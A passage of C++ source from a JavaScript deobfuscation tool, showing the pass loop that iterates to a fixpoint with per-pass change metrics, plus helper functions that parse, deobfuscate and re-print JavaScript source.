  std::vector<obs::Counter*> pass_counters;
  pass_counters.reserve(passes_.size());
  for (const auto& pass : passes_) {
    result.per_pass.push_back({std::string(pass->name()), 0});
    pass_counters.push_back(reg.counter(
        "deob.pass_changes", {{"pass", std::string(pass->name())}}));
  }

  runs->add();
  js::finalize_tree(ast.root);
  const int cap = opts_.max_iterations > 0 ? opts_.max_iterations : 1;
  for (int iter = 0; iter < cap; ++iter) {
    ++result.iterations;
    iterations->add();
    int iteration_changes = 0;
    for (std::size_t i = 0; i < passes_.size(); ++i) {
      const int c = passes_[i]->run(ast);
      result.per_pass[i].changes += c;
      result.total_changes += c;
      iteration_changes += c;
      if (c > 0) pass_counters[i]->add(static_cast<std::uint64_t>(c));
    }
    if (iteration_changes == 0) {
      result.reached_fixpoint = true;
      break;
    }
  }
  (result.reached_fixpoint ? fixpoints : cap_hits)->add();
  return result;
}

PipelineResult deobfuscate_ast(js::Ast& ast, const DeobOptions& opts) {
  const Deobfuscator deob(opts);
  PipelineResult result = deob.run(ast);
  ast.compact();
  return result;
}

SourceResult deobfuscate_source(const std::string& source,
                                const js::ParseLimits& limits,
                                const DeobOptions& opts,
                                js::PrintStyle style) {
  SourceResult out;
  out.source = source;
  try {
    js::Ast ast = js::parse(source, limits);
    out.parse_ok = true;
    out.nodes_before = js::count_nodes(ast.root);
    out.fingerprint_before = js::ast_fingerprint(ast.root);
    out.pipeline = deobfuscate_ast(ast, opts);
    out.nodes_after = js::count_nodes(ast.root);
    out.fingerprint_after = js::ast_fingerprint(ast.root);
    out.source = js::print(ast.root, style);
  } catch (const std::exception& e) {
    out.error = e.what();
  }
  return out;
}

}  // namespace jsrev::deob
